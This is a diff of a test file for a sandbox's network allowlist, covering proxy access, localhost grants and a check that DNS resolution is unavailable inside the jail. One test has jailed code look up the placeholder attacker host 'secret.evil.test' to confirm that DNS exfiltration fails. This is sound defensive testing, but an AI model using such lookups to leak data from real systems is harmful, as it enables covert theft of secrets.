@@ -1,4 +1,4 @@
-"""The allowlist from inside a jail: proxy, transparent names, localhost both ways, grants; all against local servers."""
+"""The allowlist from inside a jail: proxy, transparent names, localhost both ways, grants at run time."""
 
 from __future__ import annotations
 
@@ -102,7 +102,7 @@ def test_curl(ws, open_jail, server):
 
 
 def test_localhost_is_a_grant(ws, open_jail, server):
-    """Assert that a granted port of the host's loopback is there on the same port, and not without the grant (BC-99)."""
+    """Assert that a granted port of the host's loopback is there on the same port, else not (BC-99)."""
     jail = open_jail(ws, policy=allow(f"localhost:{server}"))
     assert "served" in jail.exec(["python3", "-c", RAW, "localhost", str(server)]).stdout_text
     assert "served" in jail.exec(["python3", "-c", RAW, "127.0.0.1", str(server)]).stdout_text
@@ -123,7 +123,11 @@ def test_grant_at_run_time(ws, open_jail, server):
 def test_no_resolver_inside(ws, open_jail):
     """Assert that nothing resolves names inside, and lookups fail at once (BC-97)."""
     jail = open_jail(ws, policy=allow("api.test:443"))
-    code = "import socket, time; b=time.time()\ntry: socket.getaddrinfo('secret.evil.test', 80)\nexcept OSError as e: print('no', time.time()-b < 2)"
+    code = (
+        "import socket, time\nb = time.time()\n"
+        "try: socket.getaddrinfo('secret.evil.test', 80)\n"
+        "except OSError: print('no', time.time() - b < 2)"
+    )
     assert jail.exec(["python3", "-c", code]).stdout_text.strip() == "no True"
 
 
